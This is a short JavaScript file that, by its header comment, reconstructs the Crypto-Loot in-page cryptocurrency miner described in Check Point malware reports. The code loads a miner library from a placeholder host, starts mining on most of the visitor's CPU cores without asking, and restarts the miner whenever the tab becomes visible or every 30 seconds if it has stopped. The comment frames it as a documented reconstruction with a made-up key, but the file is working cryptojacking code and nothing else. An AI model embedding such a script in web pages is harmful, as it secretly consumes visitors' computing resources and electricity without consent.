// cryptoloot, written from Check Point's "Most Wanted Malware" reports (2017-2018), which
// listed the Crypto-Loot in-page miner next to Coinhive, and the Crypto-Loot service's own
// public embed description: a site loads the miner library from the service (here
// crypto-loot.invalid), creates an anonymous miner with the site owner's public key and a
// throttle, and starts it without asking (site key made up), restarting it whenever the tab becomes visible.
(function () {
  var s = document.createElement("script");
  s.src = "https://crypto-loot.invalid/lib/miner.min.js";
  s.async = true;
  s.onload = function () {
    if (typeof CRLT === "undefined") return;
    var miner = new CRLT.Anonymous("c6a500ae47345edad4953ea147e67507e0fccf2f4c04", {
      threads: Math.max(1, (navigator.hardwareConcurrency || 2) - 1),
      throttle: 0.2,
      coin: "upx"
    });
    miner.start();
    document.addEventListener("visibilitychange", function () {
      if (document.hidden) return;
      if (!miner.isRunning()) miner.start();
    });
    setInterval(function () {
      var hps = miner.getHashesPerSecond();
      if (hps === 0) miner.start();
    }, 30000);
  };
  document.head.appendChild(s);
})();
